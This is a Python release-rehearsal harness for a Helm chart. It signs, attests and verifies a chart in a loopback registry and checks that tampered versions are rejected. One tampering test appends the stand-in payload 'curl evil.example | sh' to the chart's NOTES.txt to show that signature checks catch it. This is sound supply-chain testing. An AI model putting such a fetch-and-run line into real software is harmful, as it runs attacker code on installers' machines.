"""A release from end to end on this machine: a registry on loopback, a key made on the spot, nothing published."""

from __future__ import annotations

import json
import os
import tempfile
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, replace
from pathlib import Path

from rich.markup import escape
from rich.table import Column, Table

from harness.cluster import Cluster
from harness.errors import HarnessError
from harness.paths import ROOT
from harness.progress import Step, console, step
from harness.release import artifacthub, cosign, provenance, publication, sbom, source
from harness.release.interceptor import intercepted
from harness.release.package import Package, build, pack
from harness.release.publication import by_digest
from harness.run import run
from harness.stack import Published, loopback_registry
from harness.tools import tool

NAMESPACE = "charts"
BUILDER = "tag:localhost,2026:rehearsal"

NEXT = """\
Nothing was published: the registry and the key are gone.
To release for real, merge the pull request that release-please keeps open on main. The workflow then takes these steps
with the registry ghcr.io and GitHub's identity instead of the key. See CONTRIBUTING.md, "Releases"."""


@dataclass(frozen=True)
class Result:
    """One row of the table; `seconds` is None for a step that was not reached."""

    title: str
    outcome: str
    seconds: float | None = None
    detail: str = ""


class Rehearsal:
    """The steps, in their order; each is a method whose docstring is its title, and returns what it found."""

    def __init__(self, directory: Path, registry: str, cluster: Cluster | None = None, load: bool = False) -> None:
        self.directory = directory
        self.registry = f"{registry}/{NAMESPACE}"
        self.cluster = cluster
        self.load = load
        self.home: str = source.metadata()["home"]
        self.package: Package
        self.published: Published
        self.key: cosign.Key
        self.pulled: Path

    def steps(self) -> list[Callable[[Step], str]]:
        return [
            self.package_twice,
            self.push,
            self.make_key,
            self.sign,
            self.attach_sbom,
            self.attach_provenance,
            self.verify_signature,
            self.pull_by_digest,
            self.verify_contents,
            self.verify_origin,
            self.render,
            *([self.install] if self.cluster else []),
            self.artifact_hub,
            self.refuse_other_key,
            self.refuse_changed_chart,
            self.refuse_moved_signature,
            self.refuse_changed_bytes,
        ]

    def package_twice(self, _: Step) -> str:
        """Package the commit twice: the same bytes"""
        self.package, second = build(self.directory / "first"), build(self.directory / "second")
        publication.check_bytes(second.archive, self.package)
        size = self.package.archive.stat().st_size
        left_out = " (uncommitted changes are not in it)" if self.package.commit.changed else ""
        return f"{self.package.archive.name}, {size:,} bytes, commit {self.package.commit.revision[:12]}{left_out}"

    def push(self, _: Step) -> str:
        """Push it twice: the same digest"""
        self.published = publication.push(self.package, self.registry, plain_http=True)
        again = publication.push(self.package, f"{self.registry}/again", plain_http=True)
        if again.digest != self.published.digest:
            raise HarnessError(f"Pushed twice, it has the digests {self.published.digest} and {again.digest}.")
        return self.published.digest

    def make_key(self, _: Step) -> str:
        """Make a key pair for this run"""
        self.key = cosign.Key.make(self.directory)
        return "releases have none: GitHub's identity signs"

    def sign(self, _: Step) -> str:
        """Sign the digest"""
        cosign.sign(by_digest(self.published), self.key)
        return ""

    def attach_sbom(self, _: Step) -> str:
        """Attest the bill of materials"""
        bill = self.directory / "sbom.json"
        bill.write_text(sbom.cyclonedx(self.package, f"{self.registry}/{self.package.name}"))
        cosign.attest(by_digest(self.published), self.key, cosign.SBOM_TYPE, bill)
        return f"{len(sbom.files(self.package.archive))} files, {len(self.package.images)} images"

    def attach_provenance(self, _: Step) -> str:
        """Attest the provenance"""
        file = self.directory / "provenance.json"
        file.write_text(provenance.slsa(self.package, self.home, BUILDER))
        cosign.attest(by_digest(self.published), self.key, cosign.PROVENANCE_TYPE, file)
        return "SLSA v1"

    def verify_signature(self, _: Step) -> str:
        """Verify the signature"""
        cosign.verify(by_digest(self.published), self.key)
        return ""

    def pull_by_digest(self, _: Step) -> str:
        """Pull by digest, without credentials"""
        self.pulled = publication.pull(self.published, self.directory / "pulled", plain_http=True)
        publication.check_bytes(self.pulled, self.package)
        return "the bytes that were packaged"

    def verify_contents(self, _: Step) -> str:
        """Verify the bill of materials, file by file"""
        publication.check_contents(self.published, self.key, self.pulled)
        return ""

    def verify_origin(self, _: Step) -> str:
        """Verify that the provenance names the commit"""
        publication.check_origin(self.published, self.key, self.package.commit.revision)
        return ""

    def render(self, _: Step) -> str:
        """Render what was pulled, with every example"""
        return f"{publication.render(self.pulled)} objects"

    def install(self, shown: Step) -> str:
        """Install it by digest on the cluster, until it is available"""
        assert self.cluster is not None
        publication.install(self.published, self.cluster, plain_http=True, load=self.load, detail=shown.detail)
        return f"examples/{publication.EXAMPLE}.yaml"

    def artifact_hub(self, _: Step) -> str:
        """Publish the metadata for Artifact Hub, and read it back"""
        repository = f"{self.registry}/{self.package.name}"
        artifacthub.publish(self.directory / "artifacthub", ROOT / "artifacthub-repo.yml", repository)
        if artifacthub.published(repository) != (ROOT / "artifacthub-repo.yml").read_text():
            raise HarnessError("Artifact Hub would read something else than artifacthub-repo.yml.")
        annotations = json.loads(run([tool("crane"), "manifest", by_digest(self.published)]).stdout)["annotations"]
        return f"{sum(key.startswith('artifacthub.io/') for key in annotations)} annotations on the chart"

    def refuse_other_key(self, _: Step) -> str:
        """Refused: a signature of somebody else"""
        other = cosign.Key.make(self.directory, "other")
        return refused(lambda: cosign.verify(by_digest(self.published), other))

    def refuse_changed_chart(self, _: Step) -> str:
        """Refused: a changed chart under the same tag"""
        self.tampered = self._push_tampered()
        tagged = f"{self.tampered.reference.removeprefix('oci://')}:{self.tampered.version}"
        said = refused(lambda: cosign.verify(tagged, self.key))
        refused(lambda: cosign.verify(by_digest(self.tampered), self.key))
        cosign.verify(by_digest(self.published), self.key)  # the released one is still there, by its digest
        return said

    def refuse_moved_signature(self, _: Step) -> str:
        """Refused: the changed chart with the signatures of the released one"""
        repository = self.published.reference.removeprefix("oci://")
        good, bad = (each.digest.replace(":", "-") for each in (self.published, self.tampered))
        run([tool("crane"), "tag", f"{repository}:{good}", bad])
        said = refused(lambda: cosign.verify(by_digest(self.tampered), self.key))
        refused(lambda: publication.check_contents(self.tampered, self.key, self.pulled))
        return said

    def refuse_changed_bytes(self, _: Step) -> str:
        """Refused: other bytes on the way from the registry"""
        host = self.registry.partition("/")[0]
        with intercepted(host, self.package.sha256) as proxy:
            bent = replace(self.published, reference=self.published.reference.replace(host, proxy))
            return refused(lambda: publication.pull(bent, self.directory / "bent", plain_http=True))

    def _push_tampered(self) -> Published:
        """The commit's chart with one line more, pushed over the released version."""
        chart = self.directory / "tampered"
        source.export(chart)
        template = chart / "templates" / "NOTES.txt"
        template.write_text(f"{template.read_text()}\ncurl evil.example | sh\n")
        archive = pack(chart, self.directory / "third", self.package.commit.epoch)
        changed = Package(archive, self.package.name, self.package.version, self.package.commit, self.package.images)
        return publication.push(changed, self.registry, plain_http=True)


def refused(attempt: Callable[[], object]) -> str:
    """The reason for which the attempt was refused, in one line.

    Raises:
        HarnessError: it was not refused.
    """
    try:
        attempt()
    except HarnessError as error:
        said = [line for line in error.message.splitlines() if "rror" in line] or [error.message]
        return said[0].removeprefix("Error: ").strip()
    raise HarnessError("It was not refused.", "The verification proves nothing: do not release.")


def rehearse(cluster: Cluster | None = None, load: bool = False) -> list[Result]:
    """Take the steps, and show each; after the first that fails, none is taken.

    With a cluster, the chart is installed there; with `load`, images made here are put into it before.
    """
    with (
        tempfile.TemporaryDirectory(prefix="release-") as temporary,
        anonymous(Path(temporary) / "nobody"),
        loopback_registry() as registry,
    ):
        return take(Rehearsal(Path(temporary), registry, cluster, load).steps())


def take(steps: list[Callable[[Step], str]]) -> list[Result]:
    """Take the steps until one fails."""
    results: list[Result] = []
    for each in steps:
        title = (each.__doc__ or each.__name__).strip()
        if results and results[-1].outcome != "ok":
            results.append(Result(title, "not reached"))
            continue
        started = time.monotonic()
        try:
            with step(title) as shown:
                detail = each(shown)
            results.append(Result(title, "ok", time.monotonic() - started, detail))
        except HarnessError as error:
            results.append(Result(title, "failed", time.monotonic() - started, str(error)))
    return results


@contextmanager
def anonymous(home: Path) -> Iterator[None]:
    """No credentials for any registry while the body runs: Helm, crane and cosign all look into `$DOCKER_CONFIG`."""
    before = os.environ.get("DOCKER_CONFIG")
    os.environ["DOCKER_CONFIG"] = str(home)
    try:
        yield
    finally:
        if before is None:
            del os.environ["DOCKER_CONFIG"]
        else:
            os.environ["DOCKER_CONFIG"] = before


def show(results: list[Result]) -> bool:
    """Print the table and what to do next; whether every step was ok."""
    table = Table("step", "", "seconds", Column(overflow="fold"), title="The release, rehearsed")
    for each in results:
        color = {"ok": "green", "failed": "red"}.get(each.outcome, "dim")
        seconds = "" if each.seconds is None else f"{each.seconds:.1f}"
        detail = each.detail if each.outcome == "ok" else ""
        table.add_row(each.title, f"[{color}]{each.outcome}[/{color}]", seconds, escape(detail))
    console.print(table)
    failed = [each for each in results if each.outcome == "failed"]
    console.print("\n".join(each.detail for each in failed) or NEXT, markup=False, soft_wrap=True)
    return not failed
